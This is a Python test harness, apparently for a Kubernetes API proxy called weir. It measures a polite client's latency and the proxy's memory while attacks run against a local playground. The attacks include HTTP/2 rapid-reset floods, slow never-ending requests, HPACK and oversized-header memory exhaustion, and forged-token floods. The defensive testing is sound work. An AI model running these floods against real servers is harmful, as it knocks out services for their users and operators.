"""A polite user beside an attack: what becomes of its requests, and of weir's memory.

Usage: hostile.py ATTACK WEIR USED FOLDER PID SECONDS PATIENCE [RATE]

WEIR is where weir listens (HOST:PORT), USED is where the polite user sends its requests: there as well, or to the API server
itself, around weir. FOLDER is a playground's, PID is weir's, SECONDS is how long the attack goes on. A request of the polite
user that is not answered within PATIENCE seconds has failed. With RATE there is a control instead of the attack: a client that behaves well
opens as many connections as the attack does, and sends so many requests a second on all of them together.

Prints how many requests the polite user sent during the attack and how many things failed; p50 and p99 of its requests in
microseconds before and during the attack; weir's memory before and at most during the attack in MiB; how many streams or
connections the attack opened, and how many a second. Each failure is a line of the standard error.

The user is alice with a token, from 127.0.0.1; the attack comes from 127.0.0.2, in a process of its own that computes when
nothing else wants to. The frames of HTTP/2 are made by hand: no library opens streams fast enough, or leaves them as they
must be left.
"""

import asyncio
import base64
import http.client
import itertools
import json
import multiprocessing
import os
import random
import socket
import ssl
import struct
import sys
import threading
import time

import hpack
import http2

BEFORE = 1  # seconds of the polite user alone, at least
TICK = 0.02  # seconds between two of its requests
LASTING = 0.4  # seconds between two of its execs and logs
SOURCE = "127.0.0.2"
LIMIT = 10  # seconds for what no attack should delay: the beginning, and the watch's last events
READY = 3  # seconds for the attack to begin
BESIDE = 16  # requests at a time on a connection of the control
PACE = 0.001  # seconds between two looks of the control at what is due, at least

NAMESPACE = "/api/v1/namespaces/default"
LARGEST_FRAME = 16384
ACCEPTED_FIELDS = 2048  # of one frame, by weir


class Target:
    """Where a server is, and its users' credentials."""

    def __init__(self, address, folder):
        self.address = address
        self.host, port = address.rsplit(":", 1)
        self.port = int(port)
        self.folder = folder
        with open(f"{folder}/tokens.csv", encoding="ascii") as lines:
            self.tokens = {line.split(",")[1]: line.split(",")[0] for line in lines}

    def tls(self, protocol, user=None):
        context = ssl.create_default_context(cafile=f"{self.folder}/ca.crt")
        context.set_alpn_protocols([protocol])
        if user:
            context.load_cert_chain(f"{self.folder}/{user}.crt", f"{self.folder}/{user}.key")
        return context


def said(status, content):
    """A rejection, in few words."""
    try:
        return f"{status} {json.loads(content)['message']}"
    except (ValueError, KeyError, TypeError):
        return f"{status} {content[:100]!r}"


# The polite user


class Polite:
    """alice, who reads, writes, lists, watches, and from time to time runs a command or reads a log."""

    def __init__(self, target, patience):
        self.target = target
        self.patience = patience
        self.tls = target.tls("http/1.1")
        self.headers = {"Authorization": f"Bearer {target.tokens['alice']}", "Content-Type": "application/json"}
        self.connection = None
        self.failures = []
        self.written = set()
        self.seen = set()
        self.ended = threading.Event()
        self.watching = threading.Event()
        self.pod = json.loads(self.ask("GET", f"{NAMESPACE}/pods?limit=1"))["items"][0]["metadata"]["name"]
        self.threads = [threading.Thread(target=self.watch, daemon=True), threading.Thread(target=self.last, daemon=True)]
        for thread in self.threads:
            thread.start()
        if not self.watching.wait(LIMIT):
            raise TimeoutError("the watch does not begin")

    def connect(self, timeout):
        return http.client.HTTPSConnection(self.target.host, self.target.port, timeout=timeout, context=self.tls)

    def ask(self, method, path, body=None, accepted=(200, 201)):
        if self.connection is None:
            self.connection = self.connect(self.patience)
        try:
            self.connection.request(method, path, body, self.headers)
            response = self.connection.getresponse()
            content = response.read()
        except BaseException:
            self.connection.close()
            self.connection = None
            raise
        if response.status not in accepted:
            raise OSError(said(response.status, content))
        return content

    def failed(self, what, why):
        self.failures.append(f"{what}: {type(why).__name__}: {why}")

    def one(self, number):
        """The request of a tick; how long it took, in microseconds."""
        if number % 10 == 5:
            name = f"polite-{os.getpid()}-{number}"
            body = json.dumps({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name}})
            request = ("POST", f"{NAMESPACE}/configmaps", body)
        elif number % 10 == 0:
            request = ("GET", f"{NAMESPACE}/pods")
        else:
            request = ("GET", f"{NAMESPACE}/pods/{self.pod}")
        start = time.perf_counter()
        try:
            self.ask(*request)
            if request[0] == "POST":
                self.written.add(name)
        except (OSError, http.client.HTTPException) as why:
            took = time.perf_counter() - start
            self.failed(f"{request[0]} {request[1]} after {took:.1f} s", why)
        return int((time.perf_counter() - start) * 1e6)

    def run(self, numbers, seconds):
        """Asks for so long; the times."""
        times = []
        due = time.perf_counter()
        end = due + seconds
        while due < end:
            times.append(self.one(next(numbers)))
            due = max(due + TICK, time.perf_counter())
            time.sleep(max(0, due - time.perf_counter()))
        return sorted(times)

    def watch(self):
        connection = self.connect(None)
        try:
            connection.request("GET", f"{NAMESPACE}/configmaps?watch=1", headers=self.headers)
            response = connection.getresponse()
            if response.status != 200:
                raise OSError(said(response.status, response.read(4096)))
            self.watching.set()
            for line in response:
                self.seen.add(json.loads(line)["object"]["metadata"]["name"])
            why = EOFError("it has ended")
        except (OSError, http.client.HTTPException, ValueError) as error:
            why = error
        if not self.ended.is_set():
            self.failed("watch", why)

    def last(self):
        """Commands and logs, in turn."""
        for what in itertools.cycle([self.execute, self.log]):
            if self.ended.wait(LASTING):
                return
            try:
                what()
            except (OSError, http.client.HTTPException) as why:
                self.failed(what.__name__, why)

    def log(self):
        connection = self.connect(self.patience)
        connection.request("GET", f"{NAMESPACE}/pods/{self.pod}/log", headers=self.headers)
        response = connection.getresponse()
        content = response.read()
        connection.close()
        if response.status != 200 or not content:
            raise OSError(said(response.status, content))

    def execute(self):
        plain = socket.create_connection((self.target.host, self.target.port), self.patience)
        with self.tls.wrap_socket(plain, server_hostname=self.target.host) as stream:
            stream.sendall(
                f"GET {NAMESPACE}/pods/{self.pod}/exec?command=ls&stdout=true HTTP/1.1\r\n"
                f"Host: {self.target.address}\r\nAuthorization: {self.headers['Authorization']}\r\n"
                "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
                "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: v5.channel.k8s.io\r\n\r\n".encode()
            )
            answer = b""
            # Channel 1 is the command's output.
            while b"nothing runs here" not in answer:
                data = stream.recv(4096)
                if not data:
                    raise OSError(f"ended after {answer[:40]!r}")
                answer += data

    def end(self):
        """What was written must have been seen."""
        end = time.monotonic() + LIMIT
        while not self.written <= self.seen and time.monotonic() < end and self.threads[0].is_alive():
            time.sleep(0.01)
        missed = self.written - self.seen
        if missed and self.threads[0].is_alive():
            self.failed("watch", ValueError(f"{len(missed)} of {len(self.written)} changes were not seen"))
        self.ended.set()
        self.threads[1].join(LIMIT)


# The attacks


class Http2:
    """A connection whose streams are left as the attack wants them."""

    def __init__(self, attack, user):
        self.attack = attack
        self.user = user
        self.encoder = hpack.Encoder()
        self.next = 1
        self.open = {}
        self.alive = False

    async def connect(self):
        target = self.attack.target
        self.reader, self.writer = await asyncio.open_connection(
            target.host, target.port, ssl=target.tls("h2", self.user), server_hostname=target.host, local_addr=(SOURCE, 0)
        )
        self.writer.write(
            http2.PREFACE
            + http2.frame(http2.SETTINGS, 0, 0, struct.pack(">HL", http2.INITIAL_WINDOW_SIZE, http2.LARGE))
            + http2.frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">L", http2.LARGE))
        )
        await self.writer.drain()
        self.alive = True
        self.reading = asyncio.ensure_future(self.read())
        return self

    async def read(self):
        try:
            while True:
                length, flags, stream = struct.unpack(">LBL", await self.reader.readexactly(9))
                kind, length = length & 255, length >> 8
                payload = await self.reader.readexactly(length)
                if kind == http2.SETTINGS and not flags & http2.ACK:
                    self.writer.write(http2.frame(http2.SETTINGS, http2.ACK, 0))
                elif kind == http2.PING and not flags & http2.ACK:
                    self.writer.write(http2.frame(http2.PING, http2.ACK, 0, payload))
                elif kind == http2.RST_STREAM or (kind in (http2.DATA, http2.HEADERS) and flags & http2.END_STREAM):
                    self.open.pop(stream, None)
                elif kind == http2.GOAWAY:
                    break
        except (OSError, EOFError):
            pass
        self.alive = False
        self.writer.close()

    def block(self, method, path, extra=()):
        return self.encoder.encode(
            [
                (":method", method),
                (":scheme", "https"),
                (":authority", self.attack.target.address),
                (":path", path),
                *extra,
            ]
        )

    def head(self, block, end_stream=False):
        """The frames that open a stream."""
        stream, self.next = self.next, self.next + 2
        self.open[stream] = True
        self.attack.opened += 1
        rest = [block[at : at + LARGEST_FRAME] for at in range(0, len(block), LARGEST_FRAME)]
        last = len(rest) - 1
        return b"".join(
            http2.frame(
                http2.CONTINUATION if index else http2.HEADERS,
                (http2.END_HEADERS if index == last else 0) | (http2.END_STREAM if end_stream and not index else 0),
                stream,
                part,
            )
            for index, part in enumerate(rest)
        )

    def reset_all(self):
        streams, self.open = self.open, {}
        return b"".join(http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL) for stream in streams)

    async def send(self, data):
        if not self.alive:
            raise ConnectionResetError  # asyncio has no error for this: it fails somewhere inside
        self.writer.write(data)
        await self.writer.drain()


class Attack:
    """One attack, or with a rate its control. `opened` counts streams, or connections of HTTP/1.1."""

    def __init__(self, target, ready, rate=None):
        self.target = target
        self.ready = ready
        self.rate = rate
        self.opened = 0
        self.random = random.Random(16)

    def made_up(self):
        return ("authorization", f"Bearer made-up-{self.random.getrandbits(96):x}")

    def bob(self):
        return ("authorization", f"Bearer {self.target.tokens['bob']}")

    async def on_connections(self, count, step, user=None):
        """`step(connection)` again and again on each of so many connections, which are made again when they end."""
        if self.rate is not None:
            step = self.well_behaved(count)

        async def one():
            while True:
                try:
                    connection = await Http2(self, user).connect()
                    self.begun()
                    while connection.alive:
                        await step(connection)
                except OSError:
                    pass
                await asyncio.sleep(0.02)

        await asyncio.gather(*(one() for _ in range(count)))

    def begun(self):
        self.ready.set()

    def due(self, count):
        """For one of so many connections: a function that returns how many requests are due since its last call, and
        in how many seconds the next one is."""
        start, sent = time.monotonic() - self.random.random() * count / self.rate, 0

        def now():
            nonlocal sent
            all_due = (time.monotonic() - start) * self.rate / count
            due, sent = int(all_due) - sent, int(all_due)
            return due, max(PACE, (1 - all_due % 1) * count / self.rate)

        return now

    def well_behaved(self, count):
        """A step of the control: bob's requests, which are awaited, `BESIDE` at a time on a connection."""

        async def step(connection):
            due = self.due(count)
            head = ("GET", "/version", [self.bob()])
            while connection.alive:
                new, wait = due()
                new = min(new, BESIDE - len(connection.open))
                heads = [connection.head(connection.block(*head), True) for _ in range(new)]
                if heads:
                    await connection.send(b"".join(heads))
                await asyncio.sleep(wait)

        return step

    async def well_behaved_http1(self, count):
        """The control over HTTP/1.1: one request at a time on each connection, which is kept."""
        tls = self.target.tls("http/1.1")
        head = self.head("GET /version", f"Authorization: {self.bob()[1]}")

        async def one():
            due = self.due(count)
            while True:
                try:
                    reader, writer = await asyncio.open_connection(
                        self.target.host, self.target.port, ssl=tls, server_hostname=self.target.host, local_addr=(SOURCE, 0)
                    )
                    self.begun()
                    while True:
                        new, wait = due()
                        if new:
                            self.opened += 1
                            writer.write(head)
                            answer = await reader.readuntil(b"\r\n\r\n")
                            length = next(line for line in answer.lower().split(b"\r\n") if line.startswith(b"content-length:"))
                            await reader.readexactly(int(length.split(b":")[1]))
                        await asyncio.sleep(wait)
                except (OSError, EOFError, StopIteration):
                    pass
                await asyncio.sleep(0.05)

        await asyncio.gather(*(one() for _ in range(count)))

    async def unfinished(self, connections, method, path, headers=lambda: (), user=None, trickle=False):
        """95 streams on each connection whose requests never end; what is answered is asked again."""

        async def step(connection):
            missing = 95 - len(connection.open)
            heads = [connection.head(connection.block(method, path, headers())) for _ in range(missing)]
            await connection.send(b"".join(heads))
            if trickle:
                await asyncio.sleep(1)
                await connection.send(b"".join(http2.frame(http2.DATA, 0, stream, b"x") for stream in list(connection.open)))
            else:
                await asyncio.sleep(0.05)

        await self.on_connections(connections, step, user)

    async def over_http1(self, count, head, rest=None):
        """So many connections of HTTP/1.1 that send `head` and no more; one that ends is made again."""
        if self.rate is not None:
            await self.well_behaved_http1(count)
            return
        tls = self.target.tls("http/1.1")

        async def one():
            while True:
                try:
                    reader, writer = await asyncio.open_connection(
                        self.target.host, self.target.port, ssl=tls, server_hostname=self.target.host, local_addr=(SOURCE, 0)
                    )
                    self.opened += 1
                    if self.opened >= count // 2:
                        self.begun()
                    writer.write(head)
                    while await reader.read(65536):
                        if rest:
                            writer.write(rest)
                    writer.close()
                except OSError:
                    pass
                await asyncio.sleep(0.05)

        await asyncio.gather(*(one() for _ in range(count)))

    def head(self, line, *headers):
        return "\r\n".join([f"{line} HTTP/1.1", f"Host: {self.target.address}", *headers, "", ""]).encode()

    async def rapid_reset(self, path):
        """Streams that are opened and reset a moment later: tens of thousands a second."""

        async def step(connection):
            block = connection.block("GET", path, [self.bob()])
            again = connection.block("GET", path, [self.bob()])
            heads = [connection.head(block, True)] + [connection.head(again, True) for _ in range(14)]
            while connection.alive:
                await connection.send(b"".join(heads))
                await asyncio.sleep(0.001)
                heads = [connection.reset_all(), *(connection.head(again, True) for _ in range(15))]

        await self.on_connections(3, step)

    # H1: requests that never end hold seats.

    async def h1_anonymous(self):
        await self.unfinished(5, "POST", "/version")

    async def h1_tokens(self):
        await self.unfinished(5, "POST", "/version", lambda: [self.made_up()])

    async def h1_certificate(self):
        await self.unfinished(6, "POST", "/version", user="bob")

    async def h1_trickle(self):
        await self.unfinished(5, "POST", "/version", trickle=True)

    async def h1_length(self):
        await self.over_http1(120, self.head("POST /version", "Content-Length: 5"))

    async def h1_chunked(self):
        await self.over_http1(120, self.head("POST /version", "Transfer-Encoding: chunked"))

    # S1: requests that are complete, with trailers that HTTP/2 has no place for. The API server reads their bodies to the end: it
    # answers a POST to /version before, which ends any request.

    async def s1_trailers(self):
        names = ("Connection", "TE", "Transfer-Encoding", "Upgrade", "Keep-Alive", "Proxy-Connection")
        head = self.head(f"POST {NAMESPACE}/configmaps", f"Authorization: {self.bob()[1]}", "Transfer-Encoding: chunked")
        requests = [head + f"1\r\nx\r\n0\r\n{name}: close\r\n\r\n".encode() for name in names]
        await asyncio.gather(*(self.over_http1(75, request, request) for request in requests))

    # H2: rapid reset.

    async def h2_readyz(self):
        await self.rapid_reset("/readyz")

    async def h2_livez(self):
        await self.rapid_reset("/livez/ping")

    async def h2_watch(self):
        await self.rapid_reset(f"{NAMESPACE}/configmaps?watch=1")

    # H3: long-running requests that never end hold connections to the API server.

    async def h3_log(self):
        await self.unfinished(1, "GET", f"{NAMESPACE}/pods/x/log", lambda: [self.bob()])

    async def h3_websocket(self):
        await self.over_http1(
            130,
            self.head(
                f"GET {NAMESPACE}/pods/x/exec?command=ls",
                "Authorization: " + self.bob()[1],
                "Connection: Upgrade",
                "Upgrade: websocket",
                "Sec-WebSocket-Version: 13",
                "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
                "Sec-WebSocket-Protocol: v5.channel.k8s.io",
                "Content-Length: 5",
            ),
        )

    # M3: each request is a flow of its own.

    async def m3_tokens(self):
        async def step(connection):
            missing = 95 - len(connection.open)
            heads = [
                connection.head(connection.block("GET", "/api/v1/nodes", [self.made_up()]), True) for _ in range(missing)
            ]
            await connection.send(b"".join(heads))
            await asyncio.sleep(0.002)

        await self.on_connections(8, step)

    # M4: a good token where the API server does not look for it.

    async def m4_protocol(self):
        token = base64.urlsafe_b64encode(self.target.tokens["bob"].encode()).decode().rstrip("=")
        header = ("sec-websocket-protocol", f"base64url.bearer.authorization.k8s.io.{token}, v5.channel.k8s.io")

        async def step(connection):
            missing = 4 - len(connection.open)
            heads = [connection.head(connection.block("GET", "/api/v1/nodes", [header]), True) for _ in range(missing)]
            await connection.send(b"".join(heads))
            await asyncio.sleep(0.005)

        await self.on_connections(2, step)

    # M5: memory before a request is authenticated.

    async def m5_heads(self):
        head = self.head("GET /version")[:-2]
        await self.over_http1(180, head + b"X-Long: " + b"a" * 1_000_000)

    async def m5_hpack(self):
        await self.many_fields(28000)

    async def m5_fields(self):
        await self.many_fields(ACCEPTED_FIELDS - 10)

    async def many_fields(self, count):
        """Heads of so many fields of two bytes, besides some longer ones."""

        async def step(connection):
            missing = 90 - len(connection.open)
            heads = []
            for _ in range(missing):
                # Each is put into the table, where its name is.
                block = connection.block("GET", "/api/v1/nodes", [self.made_up(), ("x-a", "")])
                block += connection.encoder.encode([("x-a", "")]) * count
                heads.append(connection.head(block, True))
            await connection.send(b"".join(heads))
            await asyncio.sleep(0.05)

        await self.on_connections(3, step)

    # M6: requests to an exempt path that never end hold connections to the API server.

    async def m6_readyz(self):
        await self.unfinished(5, "GET", "/readyz")

    # M7: lists that are cancelled while the API server executes them.

    async def m7_lists(self):
        async def step(connection):
            path = "/api/v1/pods"
            heads = [connection.head(connection.block("GET", path, [self.bob()]), True) for _ in range(20)]
            await connection.send(b"".join(heads))
            await asyncio.sleep(0.004)
            await connection.send(connection.reset_all())

        await self.on_connections(2, step)


def attacking(name, target, rate, go, ready, opened):
    # Its own machine, nearly: what the attack computes takes no turn from the polite user, weir, or the API server.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    go.wait()
    attack = Attack(target, ready, rate)

    async def run():
        running = asyncio.ensure_future(getattr(attack, name)())
        while not running.done():
            opened.value = attack.opened
            await asyncio.sleep(0.02)
        await running

    asyncio.run(run())


def memory(pid, what):
    with open(f"/proc/{pid}/status", encoding="ascii") as lines:
        return next(int(line.split()[1]) for line in lines if line.startswith(what)) // 1024


def quantile(times, share):
    return times[min(len(times) - 1, int(len(times) * share))]


def main():
    name, attacked, used, folder, pid, seconds, patience = sys.argv[1:8]
    target = Target(attacked, folder)
    rate = max(1, float(sys.argv[8])) if sys.argv[8:] else None
    processes = multiprocessing.get_context("fork")
    go, ready, opened = processes.Event(), processes.Event(), processes.Value("q", 0)
    attack = processes.Process(target=attacking, args=(name.replace("-", "_"), target, rate, go, ready, opened))
    attack.daemon = True
    attack.start()  # before there are threads
    polite = Polite(Target(used, folder), float(patience))
    numbers = itertools.count(1)
    polite.run(numbers, 0.3)  # connections are made, tokens reviewed
    before = polite.run(numbers, max(BEFORE, float(seconds) / 2))
    idle = memory(pid, "VmRSS")
    with open(f"/proc/{pid}/clear_refs", "w", encoding="ascii") as peak:
        peak.write("5")  # the most memory is counted from here
    begun_at = time.monotonic()
    go.set()
    ready.wait(READY)
    during = polite.run(numbers, float(seconds))
    count = opened.value
    pace = int(count / (time.monotonic() - begun_at))
    if not attack.is_alive():
        polite.failed("attack", RuntimeError("it has ended by itself"))
    attack.kill()
    attack.join()
    polite.end()
    most = memory(pid, "VmHWM")
    for failure in polite.failures:
        print(failure, file=sys.stderr)
    times = [quantile(times, share) for times in (before, during) for share in (0.5, 0.99)]
    print(len(during), len(polite.failures), *times, idle, most, count, pace)


main()
